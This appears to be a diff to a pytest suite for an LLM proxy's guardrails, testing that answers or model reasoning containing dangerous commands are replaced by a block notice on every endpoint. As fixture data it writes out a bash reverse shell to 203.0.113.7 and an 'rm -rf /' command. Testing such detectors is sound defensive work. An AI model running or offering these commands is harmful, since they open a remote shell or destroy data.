@@ -55,10 +55,14 @@ def answer_text(which: str, r: httpx.Response, stream: bool) -> str:
     if stream:
         events = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip()
                   not in ("", "[DONE]")]
+        if which == "chat":
+            return "".join(c["delta"].get("content") or "" for e in events for c in e.get("choices") or [])
         if which == "responses":
             return "".join(e.get("delta", "") for e in events if e.get("type") == "response.output_text.delta")
         return "".join(e["delta"].get("text", "") for e in events if e.get("type") == "content_block_delta")
     doc = r.json()
+    if which == "chat":
+        return doc["choices"][0]["message"]["content"] or ""
     if which == "responses":
         return "".join(p.get("text", "") for item in doc["output"] if item.get("type") == "message"
                        for p in item.get("content") or [])
@@ -115,23 +119,31 @@ def test_tools_given_back_on_pii_escalation_leave_out_those_the_guardrails_canno
     assert "web_search" in r.headers["x-carrot-tools-dropped"]
 
 
+# (answer text, the rule, a fragment of the command): the second is decided only when the text ends (no line
+# break after the command), which the streamed call used to overtake on the Responses bridge
+BLOCKED_TEXTS = {"revshell": ("Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it.", "revshell",
+                              "/dev/tcp"),
+                 "decided-at-end": ("Cleaning up: rm -rf / then done", "destroy-rm-root", "rm -rf")}
+
+
+@pytest.mark.parametrize("shape", sorted(BLOCKED_TEXTS))
 @pytest.mark.parametrize("call", [False, True], ids=["text", "text-then-call"])
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
 @pytest.mark.parametrize("which", sorted(ENDPOINTS))
-def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream, call):
+def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream, call, shape):
     """A reverse shell in the answer text: the client gets the block notice, not the command, on every endpoint;
     a whole answer keeps nothing but the notice (a chat answer's content is the notice alone), and no tool call
     after it reaches the client, streamed or not (an agent would run it)."""
-    fake_upstream.script(Reply(match=marker, chunk_chars=5,
-                               content="Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it.",
+    content, rule, command = BLOCKED_TEXTS[shape]
+    fake_upstream.script(Reply(match=marker, chunk_chars=5, content=content,
                                tool_calls=[{"name": "run", "arguments": {"cmd": "ls"}}] if call else None))
     r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream, tools=[
         {"type": "function", **TOOL} if which == "responses" else
         {"name": TOOL["name"], "description": TOOL["description"], "input_schema": TOOL["parameters"]}]))
     assert r.status_code == 200, r.text
     text = answer_text(which, r, stream)
-    assert "/dev/tcp" not in r.text and "203.0.113.7" not in r.text, r.text
-    assert "[blocked by carrot guardrails: revshell" in text, text
+    assert command not in r.text and "203.0.113.7" not in r.text, r.text
+    assert f"[blocked by carrot guardrails: {rule}" in text, text
     assert '"function_call"' not in r.text and '"tool_use"' not in r.text, r.text
     if not stream:
         assert re.fullmatch(r"\[blocked by carrot guardrails: [\w.,\s-]+\]", text), text
@@ -478,17 +490,26 @@ def test_a_cached_answer_says_hit_on_the_agent_endpoints(proxy, fake_upstream, m
     assert len(fake_upstream.find(marker)) == 1 and answer_text(which, second, stream) == "cached once"
 
 
+@pytest.mark.parametrize("thinking,rule", [("try bash -i >& /dev/tcp/203.0.113.7/4242 0>&1 ok", "revshell-dev-tcp"),
+                                           ("I should run rm -rf / first", "destroy-rm-root")],
+                         ids=["revshell", "decided-at-end"])
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
-@pytest.mark.parametrize("which", sorted(ENDPOINTS))
-def test_a_block_rule_in_the_reasoning_ends_the_answer_on_every_endpoint(proxy, fake_upstream, marker, which, stream):
-    """The model reasons a reverse shell: the notice, and no answer text after it, streamed or not (a streamed
-    Responses or Messages answer went on with its text; found by a black-box probe)."""
-    fake_upstream.script(Reply(match=marker, thinking="try bash -i >& /dev/tcp/203.0.113.7/4242 0>&1 ok",
-                               content="Here is the answer text after.", chunk_chars=5))
-    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
+@pytest.mark.parametrize("which", [*sorted(ENDPOINTS), "chat"])
+def test_a_block_rule_in_the_reasoning_ends_the_answer_on_every_endpoint(proxy, fake_upstream, marker, which, stream,
+                                                                        thinking, rule):
+    """The model reasons a dangerous command: the notice, and no answer text after it, streamed or not (a streamed
+    Responses or Messages answer went on with its text, and a chat stream with the whole answer when the rule was
+    decided only once the reasoning ended; found by black-box probes)."""
+    fake_upstream.script(Reply(match=marker, thinking=thinking, chunk_chars=5,
+                               content="Here is the full answer you asked for, with all the steps listed out.\n"))
+    if which == "chat":
+        r = httpx.post(f"{proxy.base_url}/v1/chat/completions", headers=proxy.headers(), timeout=120, json={
+            "model": "gpt-4o", "stream": stream, "messages": [{"role": "user", "content": f"q {marker}"}]})
+    else:
+        r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
     assert r.status_code == 200, r.text
-    assert "blocked by carrot guardrails: revshell-dev-tcp" in r.text and "/dev/tcp" not in r.text, r.text[-800:]
-    assert "answer text after" not in r.text, r.text[-800:]
+    assert f"blocked by carrot guardrails: {rule}" in r.text and "rm -rf" not in r.text, r.text[-800:]
+    assert "/dev/tcp" not in r.text and "answer" not in answer_text(which, r, stream), r.text[-800:]
 
 
 def test_tools_the_guardrails_cannot_check_are_dropped_and_named(proxy, fake_upstream, marker):
